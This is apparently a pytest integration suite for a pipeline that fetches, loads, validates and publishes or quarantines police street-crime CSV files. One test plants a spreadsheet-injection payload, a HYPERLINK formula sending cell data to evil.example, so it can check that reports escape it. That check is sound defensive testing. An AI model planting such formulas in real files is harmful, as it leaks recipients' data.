"""A file's way through fetch -> load -> validate -> publish/quarantine, on real PostgreSQL, SFTP and GX."""

from __future__ import annotations

import json

import pytest
from conftest import POLICE_SAMPLE, data_rows, write_variant

from connectors.sftp import open_account
from totalplace import ingest
from totalplace.ingest import ledger
from totalplace.warehouse import connect


def process_inbox(settings, contract) -> list[ingest.Outcome]:
    outcomes = []
    for file_id in ingest.fetch(settings, contract):
        if ingest.load(settings, contract, file_id) == "validating":
            ingest.validate(settings, contract, file_id)
        outcomes.append(ingest.publish(settings, contract, file_id))
    return outcomes


def raw_count(settings, where: str = "true") -> int:
    with connect(settings.warehouse_url) as conn:
        return conn.execute(f"select count(*) from raw.police__street_crime where {where}").fetchone()[0]


def outbox(settings, name: str) -> dict[str, str]:
    with open_account(settings, "city_of_london_police") as police:
        names = [n for n in police.listdir("outbox/street_crime") if n.startswith(name)]
        return {n: police.read_bytes(f"outbox/street_crime/{n}").decode() for n in names}


def drop(settings, path, name=None):
    with open_account(settings, "city_of_london_police") as police:
        police.upload(path, "street_crime", name=name)


def test_published_rows_equal_the_files_data_rows_and_a_second_drop_adds_none(sftp, police_contract):
    expected = data_rows(POLICE_SAMPLE)
    assert expected == 797
    drop(sftp, POLICE_SAMPLE)
    [outcome] = process_inbox(sftp, police_contract)
    assert (outcome.status, outcome.rows) == ("published", expected)
    assert raw_count(sftp) == expected
    assert raw_count(sftp, f"_file_id = {outcome.file_id}") == expected
    # typed and faithful: months are dates, coordinates numbers, empty cells null
    with connect(sftp.warehouse_url) as conn:
        row = conn.execute(
            "select month, longitude, latitude, lsoa_code, crime_type from raw.police__street_crime "
            "where _row_number = 1").fetchone()
        assert (str(row[0]), row[1], row[2], row[3], row[4]) == (
            "2020-01-01", -0.106453, 51.518207, "E01000916", "Theft from the person")
        asb_without_id = conn.execute(
            "select count(*) from raw.police__street_crime where crime_id is null "
            "and crime_type = 'Anti-social behaviour'").fetchone()[0]
        assert asb_without_id == 87
        # nothing is left behind in landing
        assert conn.execute("select count(*) from information_schema.tables where table_schema = 'landing'"
                            ).fetchone()[0] == 0
    assert "ACCEPTED" in outbox(sftp, POLICE_SAMPLE.name)[f"{POLICE_SAMPLE.name}.published.txt"]

    # the same bytes again, under another name: recorded as a duplicate, nothing loaded
    drop(sftp, POLICE_SAMPLE, name="resent-copy.csv")
    assert process_inbox(sftp, police_contract) == []
    assert raw_count(sftp) == expected
    with connect(sftp.warehouse_url) as conn:
        entries = ledger.list_entries(conn, agency="police")
    assert [e.status for e in entries] == ["duplicate", "published"]
    assert entries[0].duplicate_of == outcome.file_id
    assert "DUPLICATE" in outbox(sftp, "resent-copy.csv")["resent-copy.csv.duplicate.txt"]
    # the inbox is empty once files have an outcome
    with open_account(sftp, "city_of_london_police") as police:
        assert police.listdir("inbox/street_crime") == []


def test_a_file_failing_the_gate_is_quarantined_with_a_report_naming_rows_and_columns(sftp, police_contract, tmp_path):
    def damage(rows):
        rows[3][1] = "2020-13"                       # Month, line 4
        rows[5][9] = "Theft (other)"                 # Crime type, line 6
        rows[7][4] = "-20.5"                          # Longitude outside GB, line 8
        rows[9][7] = "X01000001"                      # LSOA code pattern, line 10

    bad = write_variant(POLICE_SAMPLE, tmp_path / "bad-month.csv", damage)
    drop(sftp, bad)
    [outcome] = process_inbox(sftp, police_contract)
    assert outcome.status == "quarantined"
    assert raw_count(sftp) == 0
    with connect(sftp.warehouse_url) as conn:
        quarantined = conn.execute(f'select count(*) from quarantine."police__street_crime__f{outcome.file_id}"'
                                   ).fetchone()[0]
        entry = ledger.get_entry(conn, outcome.file_id)
    assert quarantined == 797
    assert entry.status == "quarantined" and "Month" in entry.error

    files = outbox(sftp, "bad-month.csv")
    report = json.loads(files["bad-month.csv.quarantined.json"])
    found = {(p["column"], e["line"], e["value"]) for p in report["problems"] for e in p["examples"]}
    assert ("Month", 4, "2020-13") in found
    assert ("Crime type", 6, "Theft (other)") in found
    assert ("Longitude", 8, -20.5) in found
    assert ("LSOA code", 10, "X01000001") in found
    text = files["bad-month.csv.quarantined.txt"]
    assert "QUARANTINED" in text and "line 4: '2020-13'" in text


def _drop_month(rows):
    return [r[:1] + r[2:] for r in rows]


def _ragged(rows):
    rows[5] = rows[5] + ["an extra cell"]


@pytest.mark.parametrize(
    ("edit", "message"),
    [(_drop_month, "required column 'Month' is missing"), (_ragged, "every row must have 12 cells")],
    ids=["missing-column", "ragged-row"],
)
def test_a_structurally_broken_file_is_rejected_before_the_gate(sftp, police_contract, tmp_path, edit, message):
    bad = write_variant(POLICE_SAMPLE, tmp_path / "broken.csv", edit)
    drop(sftp, bad)
    [outcome] = process_inbox(sftp, police_contract)
    assert outcome.status == "quarantined"
    assert message in outcome.error
    assert raw_count(sftp) == 0
    assert "QUARANTINED" in outbox(sftp, "broken.csv")["broken.csv.quarantined.txt"]


def test_renamed_reordered_headers_and_unknown_columns_are_handled(settings, police_contract, tmp_path):
    def reshape(rows):
        header = [h.upper() if h != "Crime type" else "  crime   TYPE " for h in rows[0]]
        rows[0] = header + ["Beat"]
        for r in rows[1:]:
            r.append("B12")
        return [list(reversed(r)) for r in rows]

    variant = write_variant(POLICE_SAMPLE, tmp_path / "reshaped.csv", reshape)
    outcome = ingest.ingest_local(settings, police_contract, variant)
    assert (outcome.status, outcome.rows) == ("published", 797)
    with connect(settings.warehouse_url) as conn:
        extra, crime_type = conn.execute(
            "select _extra, crime_type from raw.police__street_crime where _row_number = 1").fetchone()
    assert extra == {"Beat": "B12"}
    assert crime_type == "Theft from the person"


@pytest.mark.parametrize("content", [b"", b"Crime ID,Month,Reported by\n"])
def test_empty_and_header_only_files_are_quarantined(settings, police_contract, tmp_path, content):
    f = tmp_path / "empty.csv"
    f.write_bytes(content)
    outcome = ingest.ingest_local(settings, police_contract, f)
    assert outcome.status == "quarantined"
    assert outcome.error


def test_header_only_file_with_all_columns_fails_the_row_count(settings, police_contract, tmp_path):
    f = tmp_path / "zero-rows.csv"
    f.write_bytes(POLICE_SAMPLE.read_bytes().split(b"\r\n")[0] + b"\r\n")
    outcome = ingest.ingest_local(settings, police_contract, f)
    assert outcome.status == "quarantined"
    assert "at least 1 data row" in outcome.error


def test_check_file_reports_every_problem_without_recording_anything(settings, police_contract, tmp_path):
    def damage(rows):
        rows[1][1] = "Jan 2020"
        rows[2][1] = "2020/01"

    bad = write_variant(POLICE_SAMPLE, tmp_path / "two-bad.csv", damage)
    report = ingest.check_file(settings, police_contract, bad, "city_of_london_police")
    assert report["outcome"] == "failed"
    [problem] = report["problems"]
    assert problem["rows_failing"] == 2
    assert [e["line"] for e in problem["examples"]] == [2, 3]
    assert ingest.check_file(settings, police_contract, POLICE_SAMPLE, "city_of_london_police")["outcome"] == "passed"
    with connect(settings.warehouse_url) as conn:
        assert conn.execute("select count(*) from ops.file_ledger").fetchone()[0] == 0
        assert conn.execute("select count(*) from information_schema.tables where table_schema = 'landing'"
                            ).fetchone()[0] == 0


def test_title_rows_above_the_header_are_skipped_and_lines_still_match_the_file(settings, police_contract, tmp_path):
    def with_preamble(rows):
        rows[2][1] = "2020-13"  # a bad month on data row 2
        return [["City of London Police - street crime, January 2020"], ["Extracted 2020-02-03", "", "v2"], [], *rows]

    f = write_variant(POLICE_SAMPLE, tmp_path / "titled.csv", with_preamble)
    report = ingest.check_file(settings, police_contract, f, "city_of_london_police")
    assert report["outcome"] == "failed" and report["rows"] == 797
    [problem] = report["problems"]
    # title, extract line, blank line, header = lines 1-4; data row 2 is line 6
    assert problem["examples"] == [{"row": 2, "line": 6, "value": "2020-13"}]
    assert any("header is on line 4" in w for w in report["warnings"])


def test_every_ragged_row_is_listed_not_just_the_first(settings, police_contract, tmp_path):
    lines = POLICE_SAMPLE.read_bytes().split(b"\r\n")
    lines[3] = lines[3] + b",extra"          # line 4: 13 cells
    lines[10] = b""                          # line 11: empty
    lines[20] = lines[20].rsplit(b",", 2)[0]  # line 21: 10 cells
    f = tmp_path / "ragged.csv"
    f.write_bytes(b"\r\n".join(lines))
    report = ingest.check_file(settings, police_contract, f, "city_of_london_police")
    [problem] = report["problems"]
    assert problem["check"] == "row_length" and problem["rows_failing"] == 2
    assert [(e["line"], e["value"]) for e in problem["examples"]] == [(4, "13 cells"), (21, "10 cells")]


def test_blank_lines_mid_file_are_skipped_and_rows_keep_their_line_numbers(settings, police_contract, tmp_path):
    lines = POLICE_SAMPLE.read_bytes().split(b"\r\n")
    data = [line for line in lines[1:] if line]
    lines[10:10] = [b"", b""]                # two blank lines after line 10 (COPY alone refuses them)
    f = tmp_path / "blank-lines.csv"
    f.write_bytes(b"\r\n".join(lines))
    outcome = ingest.ingest_local(settings, police_contract, f)
    assert (outcome.status, outcome.rows) == ("published", len(data))
    with connect(settings.warehouse_url) as conn:
        numbers = [r for (r,) in conn.execute("select _row_number from raw.police__street_crime order by 1")]
        report = conn.execute("select report from ops.file_ledger where file_id = %s", (outcome.file_id,)).fetchone()[0]
    # data rows 1-9 are lines 2-10; rows 10 and 11 are the blank lines; the next data row is row 12 = line 13
    assert numbers[:10] == [1, 2, 3, 4, 5, 6, 7, 8, 9, 12]
    assert "2 empty row(s)" in " ".join(report["warnings"])


def test_reports_back_to_partners_never_carry_a_live_spreadsheet_formula(sftp, police_contract, tmp_path):
    """A hostile cell comes back in the rejection report's CSV escaped (OWASP CSV injection)."""
    import csv as csv_module
    import io

    from conftest import POLICE_SAMPLE, write_variant

    from connectors.sftp import open_account
    from totalplace.reports import spreadsheet_safe

    def poison(rows):
        rows[1][9] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        rows[2][9] = "@SUM(1+1)"

    bad = write_variant(POLICE_SAMPLE, tmp_path / "poisoned.csv", poison)
    with open_account(sftp, "city_of_london_police") as police:
        police.upload(bad, "street_crime")
    [file_id] = ingest.fetch(sftp, police_contract)
    ingest.load(sftp, police_contract, file_id)
    ingest.validate(sftp, police_contract, file_id)
    assert ingest.publish(sftp, police_contract, file_id).status == "quarantined"
    with open_account(sftp, "city_of_london_police") as police:
        text = police.read_bytes("outbox/street_crime/poisoned.csv.quarantined.csv").decode("utf-8-sig")
    values = [row[5] for row in csv_module.reader(io.StringIO(text))][1:]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in values and "'@SUM(1+1)" in values
    assert not any(v.startswith(("=", "+", "-", "@")) for v in values)
    assert spreadsheet_safe("-2+3") == "'-2+3" and spreadsheet_safe("Other theft") == "Other theft"


def test_a_fault_is_the_files_only_when_the_error_says_so(settings):
    """A file is quarantined as its own fault only for errors of its data; a lost warehouse, a missing
    right or a full disk fails the task (retried), and anything else is quarantined with its copy kept."""
    import psycopg

    from totalplace.access import as_role
    from totalplace.ingest import fault_of

    def error_of(statement: str) -> psycopg.Error:
        with connect(as_role(settings.warehouse_url, settings, "loader")) as conn:
            try:
                conn.execute(statement)
            except psycopg.Error as exc:
                return exc
        raise AssertionError(f"{statement} raised nothing")

    assert fault_of(error_of("select 1 / 0")) == "file"  # 22012
    assert fault_of(error_of("select 'x'::integer")) == "file"  # 22P02
    assert fault_of(error_of("select * from ops.audit_log")) == "platform"  # 42501: a right the loader lacks
    with pytest.raises(psycopg.OperationalError) as unreachable:
        psycopg.connect("host=/nonexistent-socket-dir dbname=x connect_timeout=2")
    assert fault_of(unreachable.value) == "platform"  # no SQLSTATE: the warehouse could not be reached
    assert fault_of(OSError(28, "No space left on device")) == "platform"
    assert fault_of(UnicodeDecodeError("utf-8", b"\xff", 0, 1, "invalid start byte")) == "file"
    assert fault_of(RuntimeError("something nobody foresaw")) == "unknown"


@pytest.mark.parametrize("sqlstate", ["53300", "22012"])
def test_a_check_whose_query_fails_is_never_a_verdict_without_problems(sftp, police_contract, sqlstate):
    """Found at national scale: with the warehouse out of connections, GX kept the error of each check's
    query as a failed check, and two good council files were quarantined - one with no problem at all.
    Here the file's table is put behind a view whose full scans raise (GX's first look at the table,
    one row, still works), so every check's query fails inside GX: with "too many connections" (53300,
    the platform's) the task fails and is retried, nothing held against the file; with a value the query
    cannot compute (22012, the file's) the file is quarantined, with a problem that says so."""
    import psycopg

    from totalplace.ingest.tables import landing_table

    drop(sftp, POLICE_SAMPLE)
    [file_id] = ingest.fetch(sftp, police_contract)
    assert ingest.load(sftp, police_contract, file_id) == "validating"
    table = landing_table(police_contract, file_id)
    name, kept = f'"{table.schema}"."{table.typed_name}"', f'"{table.typed_name}_kept"'
    with connect(sftp.warehouse_url) as conn:
        owner, = conn.execute("select tableowner from pg_tables where schemaname = %s and tablename = %s",
                              (table.schema, table.typed_name)).fetchone()
        columns = [c for c, in conn.execute("select column_name from information_schema.columns where "
                                            "table_schema = %s and table_name = %s order by ordinal_position",
                                            (table.schema, table.typed_name))]
        conn.execute(f"""create function public.fails_after_first(n bigint) returns bigint language plpgsql as $$
                         begin if n > 1 then raise exception 'simulated' using errcode = '{sqlstate}'; end if;
                         return n; end $$""")
        failing = ", ".join(f'"{c}"' if c != "crime_type" else
                            "case when public.fails_after_first(_row_number) > 0 then crime_type end as crime_type"
                            for c in columns)
        conn.execute(f"alter table {name} rename to {kept}")
        conn.execute(f'create view {name} as select {failing} from "{table.schema}".{kept}')
        conn.execute(f'alter view {name} owner to "{owner}"')

    def restore():
        with connect(sftp.warehouse_url) as conn:
            conn.execute(f"drop view {name}")
            conn.execute(f'alter table "{table.schema}".{kept} rename to "{table.typed_name}"')

    if sqlstate == "53300":
        with pytest.raises(Exception) as failed:
            ingest.validate(sftp, police_contract, file_id)
        assert ingest.fault_of(failed.value) == "platform" and "could not check" in str(failed.value), failed.value
        with connect(sftp.warehouse_url) as conn:
            entry = ledger.get_entry(conn, file_id)
        assert entry.status == "validating" and "gate" not in (entry.report or {})  # no verdict held against it
        restore()
        assert ingest.validate(sftp, police_contract, file_id) is True  # the retry judges the file
        assert ingest.publish(sftp, police_contract, file_id).status == "published"
    else:
        assert ingest.validate(sftp, police_contract, file_id) is False
        restore()
        outcome = ingest.publish(sftp, police_contract, file_id)
        with connect(sftp.warehouse_url) as conn:
            report = ledger.get_entry(conn, file_id).report
        assert outcome.status == "quarantined" and len(report["problems"]) == 1, report["problems"]
        assert "could not be checked" in report["problems"][0]["rule"] and "DivisionByZero" in report["problems"][0]["rule"]
    with psycopg.connect(sftp.warehouse_url, autocommit=True) as conn:
        conn.execute("drop function public.fails_after_first(bigint)")
